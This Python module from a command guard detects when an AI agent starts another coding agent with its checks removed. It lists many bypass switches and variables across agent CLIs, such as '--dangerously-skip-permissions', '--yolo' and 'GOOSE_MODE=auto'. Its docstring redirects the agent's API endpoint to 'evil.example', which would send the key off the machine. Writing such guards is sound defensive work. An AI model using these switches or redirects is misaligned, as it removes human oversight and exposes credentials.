"""Another agent, started by an agent: with its guards off, or where nobody has read what it loads.

Caught: ``claude --dangerously-skip-permissions -p x``, ``codex exec --yolo x``, ``gemini --yolo``, ``q chat
--trust-all-tools``, ``ANTHROPIC_BASE_URL=http://evil.example claude`` (deny); ``git clone
https://github.com/x/y && cd y && claude`` (ask: the clone's own hooks would run).
Quiet: ``claude -p 'summarise README' --allowedTools Read``, ``claude --version``, ``codex login status``,
``gemini --help``.

Lost: every check between a model and this machine.
Back: Nothing to bring back while it has not run; what it did then is judged by nobody.
Instead: the same without the switch, with the tools it needs listed (``claude -p 'summarise README'
--allowedTools Read``).

Facts: each agent's ``--help`` and hook documentation.
"""

from __future__ import annotations

from guard.model import Effect, Place, Resource

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from guard.model import Invocation
    from guard.world import World

OFF: dict[str, tuple[str, ...]] = {
    # option, or ``option value``; ``*`` stands for the rest of a word
    "claude": ("--dangerously-skip-permissions", "--allow-dangerously-skip-permissions", "--bare",
               "--permission-mode bypassPermissions", "--permission-mode dontAsk", "--setting-sources *",
               "--settings *disableAllHooks*", "--permission-mode auto"),
    "codex": (
        "--dangerously-bypass-approvals-and-sandbox", "--yolo", "--dangerously-bypass-hook-trust",
        "-s danger-full-access", "--sandbox danger-full-access", "--ask-for-approval never", "-a never",
        "-c approval_policy*never*", "-c sandbox_mode*danger*", "-c features.hooks*false",
        "--config features.hooks*false", "--config approval_policy*never*", "--disable hooks",
        "--ignore-user-config", "app-server", "disable hooks",
    ),
    "gemini": ("--yolo", "-y", "--approval-mode yolo", "hooks disable"),
    "qwen": ("--yolo", "-y", "--approval-mode yolo", "--bare", "--safe-mode", "hooks disable"),
    "q": ("--trust-all-tools", "-a"),
    "kiro-cli": ("--trust-all-tools", "-a"),
    "copilot": ("--allow-all-tools", "--allow-all", "--yolo", "--allow-all-paths"),
    "cursor-agent": ("-f", "--force", "--yolo"),
    "agent": ("--yolo",),
    "aider": ("--yes-always", "--yes"),
    "opencode": ("--dangerously-skip-permissions", "--yolo", "--pure"),
    "kilo": ("--auto", "--yolo", "--dangerously-skip-permissions"),
    "grok": ("--always-approve", "--yolo"),
    "droid": ("--skip-permissions-unsafe", "--auto high"),
    "cline": ("--yolo", "-y", "--auto-approve-all", "--config *", "--data-dir *", "--hooks-dir *"),
    "kimi": ("--yolo", "-y", "--yes", "--auto-approve"),
    "hermes": ("--yolo", "--accept-hooks", "--ignore-user-config", "--safe-mode"),
    "openhands": ("--always-approve", "--yolo", "--headless"),
    "vibe": ("--auto-approve",),
    "crush": ("--yolo", "-y"),
    "amp": ("--dangerously-allow-all",),
    "cn": ("--auto",),
    "auggie": ("--dangerously-skip-permissions",),
    "interpreter": ("-y", "--auto_run"),
    "open-interpreter": ("-y", "--auto_run"),
    "gptme": ("-y", "--no-confirm"),
    "devin": ("--dangerous", "--permission-mode dangerous"),
    "agy": ("--yolo", "--dangerously-skip-permissions"),
    "claude-code": ("--dangerously-skip-permissions",),
}  # fmt: skip
"""Switches that start an agent without its own checks, or without the hooks of the guard."""

OFF_BY_VARIABLE = {
    "GOOSE_MODE": ("auto",), "CLINE_YOLO": ("1", "true"), "COPILOT_ALLOW_ALL": ("1", "true"),
    "OPENCODE_PERMISSION": ("*allow*",), "HERMES_YOLO_MODE": ("1", "true"), "PLUGINS": ("off",),
    "AIDER_YES_ALWAYS": ("1", "true"), "GEMINI_YOLO": ("1", "true"),
}  # fmt: skip

READS = (
    "mcp", "config", "doctor", "login", "logout", "auth", "update", "upgrade", "completion", "install",
    "models", "stats", "help", "version", "status", "whoami", "features", "skills", "plugin", "session",
    "sessions",
)  # fmt: skip


def effects(invocation: Invocation, world: World) -> Iterator[Effect]:
    """What starting this agent would mean."""
    name = invocation.program
    words = [w.text if w.text is not None else w.skeleton for w in invocation.argv[1:]]
    if any(w in ("--help", "-h", "--version", "-v", "-V", "--help-all") for w in words[:2]):
        return
    switch = _switch_off(name, words) or _variable_off(invocation)
    if switch:
        yield _unguarded(invocation, f"{name} would run with its guards off ({switch})", switch)
    elsewhere = "" if switch else _other_home(invocation)
    if elsewhere:
        yield _unguarded(
            invocation, f"{name} would read other settings, without the guard's hooks", elsewhere
        )
    where = _redirected(invocation)
    if where:
        yield _unguarded(invocation, f"{where} would answer in the model's place, and gets the key", where)
    operands = [w for w in words if not w.startswith("-")]
    started = not (operands and operands[0] in READS)
    if started and not switch and invocation.cwd is not None and _unread(invocation.cwd, world):
        yield Effect(
            "agent.unread-project", "execute", Resource("agent", name), Place("none", name),
            invocation, "R3", "B2",
            why=f"{name} would load hooks of {invocation.cwd} that nobody has read yet",
            instead="git clone only, then read .claude/, .mcp.json and the other agents' settings in it",
            marks=("unknown-code",), tags=("T1204",), span=invocation.span, certainty=invocation.certainty,
        )  # fmt: skip
    if name == "claude" and operands[:2] in (["config", "set"], ["config", "add"], ["config", "remove"]):
        from guard.programs.tampering import tampering

        yield tampering(
            invocation, " ".join(["claude", *operands[:3]]), "the agent's own settings would change"
        )
    if name == "claude" and operands[:2] in (["mcp", "add"], ["mcp", "add-json"]):
        yield Effect(
            "agent.add-server", "create", Resource("agent setting", " ".join(operands[2:4])),
            Place("none", name), invocation, "R1", "B1",
            why="the server's program would run in every later session",
            marks=("persistence",), tags=("T1546",), span=invocation.span,
        )  # fmt: skip


def _unguarded(invocation: Invocation, why: str, switch: str) -> Effect:
    name = invocation.program
    return Effect(
        "agent.unguarded", "execute", Resource("agent", name), Place("none", name), invocation, "R4", "B3",
        loss="every check between a model and this machine", why=why,
        instead=f"{name} without {switch}, with the tools it needs listed",
        marks=("unguarded-agent",), tags=("T1562.001",), span=invocation.span, certainty=invocation.certainty,
    )  # fmt: skip


def _switch_off(name: str, words: list[str]) -> str:
    for rule in OFF.get(name, ()):
        option, _, value = rule.partition(" ")
        for index, word in enumerate(words):
            given, equals, attached = word.partition("=")
            if given != option and not (len(option) > 4 and word == option):
                continue
            if not value:
                if not equals or attached.lower() not in ("false", "0"):
                    return option
                continue
            actual = attached if equals and option.startswith("--") else "".join(words[index + 1 : index + 2])
            if _fits(actual, value):
                return f"{option} {actual}".strip()
    return ""


def _fits(text: str, pattern: str) -> bool:
    pieces = [p for p in pattern.split("*") if p]
    if "*" not in pattern:
        return text == pattern
    position = 0
    for piece in pieces:
        position = text.find(piece, position)
        if position < 0:
            return False
    if pattern == "*":
        return "user" not in text
    return True


def _variable_off(invocation: Invocation) -> str:
    for name, values in OFF_BY_VARIABLE.items():
        variable = invocation.variables.get(name)
        text = variable.value.text if variable is not None else None
        if text is not None and any(_fits(text.lower(), v) for v in values):
            return f"{name}={text}"
    return ""


HOMES = {
    "claude": ("HOME", "CLAUDE_CONFIG_DIR", ), "codex": ("HOME", "CODEX_HOME", ),
    "gemini": ("HOME", "GEMINI_CLI_HOME", ), "qwen": ("HOME",),
    "copilot": ("HOME", "COPILOT_HOME", "XDG_CONFIG_HOME"), "grok": ("HOME", "GROK_HOME"),
    "opencode": ("HOME", "XDG_CONFIG_HOME", "OPENCODE_CONFIG", "OPENCODE_CONFIG_DIR"), "droid": ("HOME",),
    "goose": ("HOME", "XDG_CONFIG_HOME", ), "crush": ("HOME", "XDG_CONFIG_HOME", ),
    "amp": ("HOME", "XDG_CONFIG_HOME", ), "kimi": ("HOME", "KIMI_CODE_HOME"), "vibe": ("HOME", "VIBE_HOME"),
    "hermes": ("HOME", "HERMES_HOME"), "cline": ("HOME",), "cursor-agent": ("HOME", "CURSOR_CONFIG_DIR"),
    "openhands": ("HOME",),
}  # fmt: skip
"""Variables that decide where an agent's settings, and with them its hooks, are read from."""
GUARDS_OWN = ("XDG_STATE_HOME", "XDG_CONFIG_HOME")
"""Where the guard of that agent looks for what it remembers, for tickets, and for its owner's rules."""


def _other_home(invocation: Invocation) -> str:
    """The variable that makes an agent read other settings; empty where it reads the usual ones."""
    names = HOMES.get(invocation.program, ())
    names += GUARDS_OWN if names else ()
    for name in names:
        variable = invocation.variables.get(name)
        if variable is None:
            continue
        text = variable.value.text
        if text is None or text.rstrip("/") != invocation.environment.get(name, "").rstrip("/"):
            return f"{name}={text if text is not None else variable.value.skeleton}"
    if names and invocation.under("env") is not None and invocation.variable("HOME") is None:
        return "an empty environment"
    return ""


BASES = ("ANTHROPIC_BASE_URL", "OPENAI_BASE_URL", "OPENAI_API_BASE", "ANTHROPIC_BEDROCK_BASE_URL",
         "ANTHROPIC_VERTEX_BASE_URL", "GOOGLE_GEMINI_BASE_URL", "CODEX_BASE_URL", "COPILOT_PROVIDER_BASE_URL",
         "OPENAI_HOST", "HTTPS_PROXY", "https_proxy")  # fmt: skip


def _redirected(invocation: Invocation) -> str:
    """The foreign address that an agent's conversation would go to."""
    for name in BASES:
        variable = invocation.variables.get(name)
        if variable is None or variable.value.text == "":
            continue
        text = variable.value.text
        if text is None or not is_loopback(text):
            return f"{name}={text if text is not None else variable.value.skeleton}"
    return ""


def is_loopback(url: str) -> bool:
    """Whether a URL stays on this machine."""
    host = url.partition("://")[2] or url
    host = host.split("/", 1)[0].rsplit("@", 1)[-1]
    return host.startswith(("127.", "localhost", "[::1]", "0.0.0.0", "host.docker.internal"))  # noqa: S104


def _unread(cwd: str, world: World) -> bool:
    """A directory that this very command makes has been read by nobody."""
    return world.stat(cwd) is None
